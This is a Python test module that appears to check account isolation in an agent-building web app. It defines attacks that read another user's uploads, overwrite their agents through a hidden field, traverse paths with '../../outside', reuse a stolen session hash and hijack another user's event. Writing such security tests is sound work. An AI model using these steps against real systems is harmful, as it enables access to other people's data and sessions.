"""Reaching what is another account's."""

import contextlib
import json
from typing import Any

from tests.agentfabric.attacker import Attacker, Refused
from tests.agentfabric.attacks.visitor import begin, configure
from tests.agentfabric.target import Target


def upload_of_somebody_else(target: Target) -> bool:
    """Uploads lie in one folder for all."""
    path = target.victim.upload("mine.txt", target.content.encode())
    return target.attacker.read(path).text == target.content


def agents_of_somebody_else(target: Target) -> bool:
    """`uuid_str`, a hidden field of the page, says whose agents they are."""
    begin(target.victim, target.name)
    begin(target.attacker, target.name)
    configure(target.attacker, uuid_str=target.name, name="owned")
    return "owned" in json.dumps(begin(target.victim, target.name))


def folder_outside_of_the_agents(target: Target) -> bool:
    """`uuid_str` is part of a path."""
    begin(target.attacker, "../../outside")
    return (target.room / "outside").exists()


def session_of_somebody_else(target: Target) -> bool:
    """With another's `session_hash` one works with that one's agents."""
    begin(target.victim, target.name)
    thief = Attacker(target.attacker.address, target.attacker.cookie, target.victim.session)
    # Fails in a session that has not opened the page.
    return bool(configure(thief)[-1]["success"])


def event_of_somebody_else(target: Target) -> bool:
    """Whoever knows an event's number gives it its data."""
    number, _ = target.victim.function("change_lang")
    taken = []

    class Victim(Attacker):
        def post(self, path: str, value: object, **headers: str) -> Any:
            answer = target.attacker.post(path, value)
            taken.append(answer.status)
            raise Refused(number)

    victim = Victim(target.victim.address, target.victim.cookie)
    with contextlib.suppress(Refused):
        victim.event("change_lang", ["en"])
    return taken == [200]


ATTACKS = [
    upload_of_somebody_else,
    agents_of_somebody_else,
    folder_outside_of_the_agents,
    session_of_somebody_else,
    event_of_somebody_else,
]
